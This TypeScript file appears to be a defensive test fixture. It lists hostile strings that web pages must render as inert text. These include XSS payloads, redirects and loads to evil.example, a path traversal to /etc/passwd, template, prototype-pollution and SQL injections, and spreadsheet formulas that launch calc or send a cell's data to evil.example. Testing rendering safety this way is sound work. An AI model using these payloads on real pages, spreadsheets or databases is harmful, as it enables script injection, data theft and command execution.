/** What the attacks among the strings call. A page that runs it has a fault. */
export const TRAP = "naughty";

/**
 * Texts that pages must show as they are: attacks on HTML, attributes, addresses, templates and spreadsheets, and writing that
 * layouts and loops over characters get wrong. Each is one line of at most 120 characters that differs from the others.
 */
export const NAUGHTY_STRINGS: readonly string[] = [
  // Elements that run, load or navigate.
  `<script>${TRAP}()</script>`,
  `</td></tr></table></main><script>${TRAP}()</script>`,
  `"><script>${TRAP}()</script>`,
  `<scr<script>ipt>${TRAP}()</scr</script>ipt>`,
  `<img src=x onerror=${TRAP}()>`,
  `'"><img src="https://evil.example/i" onload="${TRAP}()">`,
  `<svg/onload=${TRAP}()>`,
  `<svg><script href="data:text/javascript,${TRAP}()"/></svg>`,
  `<iframe srcdoc="<script>parent.${TRAP}()</script>"></iframe>`,
  '<iframe src="https://evil.example/"></iframe>',
  `<object data="javascript:${TRAP}()"></object>`,
  `<body onload=${TRAP}()>`,
  `<details open ontoggle=${TRAP}()>x</details>`,
  `<input autofocus onfocus=${TRAP}()>`,
  `<a href="javascript:${TRAP}()">click</a>`,
  '<link rel=stylesheet href="https://evil.example/s.css">',
  '<style>@import "https://evil.example/i.css"; * { display: none }</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  `<form action="https://evil.example/"><button autofocus>OK</button></form>`,
  `<math><mi xlink:href="javascript:${TRAP}()">x</mi></math>`,
  `<template><img src=x onerror=${TRAP}()></template>`,
  // Attributes and addresses.
  `" onmouseover="${TRAP}()" x="`,
  `' onfocus='${TRAP}()' autofocus='`,
  `javascript:${TRAP}()`,
  `data:text/html,<script>${TRAP}()</script>`,
  "//evil.example/x",
  "#/accounts/../../api/auth/logout/?a=1&b=%00%ff%zz",
  "../../../../etc/passwd",
  // Entities, templates and comments.
  "&lt;b&gt;Tom &amp; Jerry&lt;/b&gt; &#x3c;i&#62; &nbsp;",
  "<!-- --> <![CDATA[ ]]> <?xml ?> --!>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on template engines
  "{{constructor.constructor('x')()}} ${7*7} <%= 7*7 %> #{7*7} [[7*7]]",
  '{"__proto__":{"isAdmin":true}}',
  "__proto__",
  "constructor",
  "'; DROP TABLE users; --",
  // Spreadsheets.
  '=HYPERLINK("https://evil.example/?"&A1,"OK")',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "+1;=1,=1",
  // Writing.
  "\u202etfel ot thgir\u202c مرحبا بالعالم",
  "\u200bzero\u200dwidth\ufeff\u2060text\u00ad",
  "Z̸̧̘̍a̷̢̛͖l̶͇̇g̵̛̱o̸̺͝ é e\u0301\u0301\u0301",
  "👩‍👩‍👧‍👦🇨🇲👍🏿\u{10ffff}",
  "ÄÖÜß ŒŸ ＜ｓｃｒｉｐｔ＞ ‹›«» ’“”",
  "田中さんにあげて下さい",
  "W".repeat(118),
  "null",
  "undefined",
  "[object Object]",
];
